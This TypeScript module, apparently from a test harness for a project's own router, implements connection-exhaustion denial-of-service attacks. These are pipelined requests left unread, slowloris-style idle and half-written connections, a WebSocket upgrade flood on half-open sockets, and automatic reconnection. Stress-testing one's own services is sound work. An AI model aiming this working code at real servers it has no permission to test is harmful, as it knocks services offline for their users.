/** Attacks below the app: TCP connections and HTTP requests whose end the router never sees. */
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import type { Count, Enough } from './orders.ts';
import type { Router } from './wire.ts';

/**
 * A closed connection is opened again after this time, in milliseconds: the attacker is patient and does not give up.
 */
const AGAIN_MS = 250;

function dial({ address, port }: Router): Socket {
  return connect(port, address).on('error', () => {}); // refused; `close` follows
}

/** Keeps requesting and reads nothing: answers pile up in the router or in the kernel. */
export async function pipeline(
  router: Router,
  { path, connections, requests }: { path: string; connections: number; requests: number },
  count: Count,
  enough: Enough,
): Promise<void> {
  const text = `GET ${path} HTTP/1.1\r\nHost: ${router.address}:${router.port}\r\n\r\n`.repeat(requests);
  await keep(connections, count, enough, () => {
    const socket = dial(router);
    socket.once('connect', () => {
      socket.pause();
      socket.write(text, () => count('requests sent', requests));
    });
    return socket;
  });
}

export async function idle(
  router: Router,
  { connections }: { connections: number },
  count: Count,
  enough: Enough,
): Promise<void> {
  let made = 0;
  await keep(connections, count, enough, () => {
    const socket = dial(router);
    made += 1;
    if (made % 2 === 0) socket.once('connect', () => socket.write('GET / HTTP/1.1\r\nHost: '));
    return socket;
  });
}

/**
 * How long this side keeps a socket that the router has given up, in milliseconds: longer than the router waits for a
 * close.
 */
const HELD_MS = 5_000;
const BEAT_MS = 20;

export async function upgrade(
  router: Router,
  { perSecond }: { perSecond: number },
  own: readonly string[],
  count: Count,
  enough: Enough,
): Promise<void> {
  const at = `${router.address}:${router.port}`;
  const request = ['GET /signal HTTP/1.1', ...upgradeHeaders(at), '', ''].join('\r\n');
  const open = new Set<Socket>();
  const one = (localAddress: string | undefined): void => {
    // Neither the end of the other side nor anything else closes this one.
    const socket = connect({
      host: router.address,
      port: router.port,
      allowHalfOpen: true,
      ...(localAddress !== undefined && { localAddress }),
    });
    open.add(socket);
    const patience = setTimeout(() => socket.destroy(), HELD_MS);
    socket.on('error', () => {}); // refused; `close` follows
    socket.once('close', () => {
      clearTimeout(patience);
      open.delete(socket);
    });
    socket.once('connect', () => socket.write(request, () => count('sockets asked for')));
    socket.once('data', (bytes) => count(bytes.toString('latin1').includes(' 101 ') ? 'answered 101' : 'refused'));
  };
  const begun = performance.now();
  let asked = 0;
  while (!enough.isSaid) {
    for (; asked < ((performance.now() - begun) * perSecond) / 1_000; asked += 1) one(own[asked % own.length]);
    await Promise.race([pause(BEAT_MS), enough.word]);
  }
  for (const socket of open) socket.destroy();
}

/** The headers that a browser sends when the router's page opens its socket. */
export function upgradeHeaders(at: string): readonly string[] {
  const upgrading = ['Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13'];
  return [`Host: ${at}`, `Origin: http://${at}`, ...upgrading, 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=='];
}

/** Keeps `connections` connections open until told to stop; each that is closed is opened again after a while. */
async function keep(connections: number, count: Count, enough: Enough, make: () => Socket): Promise<void> {
  const open = new Set<Socket>();
  const again = (): void => {
    if (enough.isSaid) return;
    const socket = make();
    open.add(socket);
    socket.once('connect', () => count('connections made'));
    socket.once('close', () => {
      open.delete(socket);
      count('connections closed by the router');
      void pause(AGAIN_MS).then(again);
    });
  };
  for (let index = 0; index < connections; index += 1) again();
  await enough.word;
  count('connections held at the end', [...open].filter(({ readyState }) => readyState === 'open').length);
  for (const socket of open) socket.destroy();
}

/** One request on a new connection; resolves with the status of the answer, or 0 when there was none. */
export function ask({ address, port }: Router, path: string, headers: readonly string[]): Promise<number> {
  return new Promise((resolve) => {
    const socket = dial({ address, port });
    let heard = '';
    socket.on('data', (bytes: Buffer) => {
      heard += bytes.toString('latin1');
      const status = /^HTTP\/1\.1 (\d{3})/.exec(heard)?.[1];
      if (status === undefined) return;
      resolve(Number(status));
      socket.destroy();
    });
    socket.once('close', () => resolve(0));
    socket.write([`GET ${path} HTTP/1.1`, ...headers, '', ''].join('\r\n'));
  });
}
